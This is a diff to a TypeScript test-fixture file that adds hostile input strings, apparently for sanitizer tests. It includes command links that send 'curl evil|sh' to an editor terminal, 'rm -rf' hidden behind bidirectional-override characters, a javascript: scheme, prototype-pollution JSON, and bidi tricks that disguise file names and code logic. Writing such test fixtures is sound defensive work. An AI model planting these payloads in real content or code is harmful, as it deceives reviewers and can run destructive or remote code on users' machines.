@@ -70,4 +70,32 @@ export const HOSTILE: readonly string[] = [
   `<table><tr><td background="http://evil.example/x.png">td</td></tr></table>`,
   `<svg><style>{background:url(http://evil.example/x)}</style></svg>`,
   `<a href="#" onclick="${P}">hash</a>`,
+  `[Fix your key](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)`,
+  `[settings](command:workbench.action.openSettings "Open settings")`,
+  `<a href="command:workbench.action.reloadWindow">html command link</a>`,
+  `[md command angle](<command:vscode.open>)`,
+  `[docs‮](https://example.com/‮gpj.exe "title ⁧with⁩ bidi")`,
+  `[bidi scheme](‮javascript:${P})`,
+  '`rm -rf /‮` and ```sh\ncurl evil ⁦| sh⁩\n```',
+  `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"pwned": 1}}}`,
+];
+
+/** Tool-call ids an endpoint may choose that name `Object.prototype` members. */
+export const PROTOTYPE_IDS: readonly string[] = [
+  'constructor',
+  '__proto__',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  'isPrototypeOf',
+  '__defineGetter__',
+  'propertyIsEnumerable',
+];
+
+/** Bidirectional overrides (U+202A–U+202E, U+2066–U+2069) that make text read differently from what it is. */
+export const BIDI: readonly string[] = [
+  'rm -rf ~/\u202Etxt.exe',
+  'cat \u2067notes\u2069 secret.txt',
+  'if (admin) {\u202E } \u2066// check later\u2069 {',
+  '\u202Aembedded\u202B right\u202C pop\u202D override\u2068 isolate\u2069',
 ];
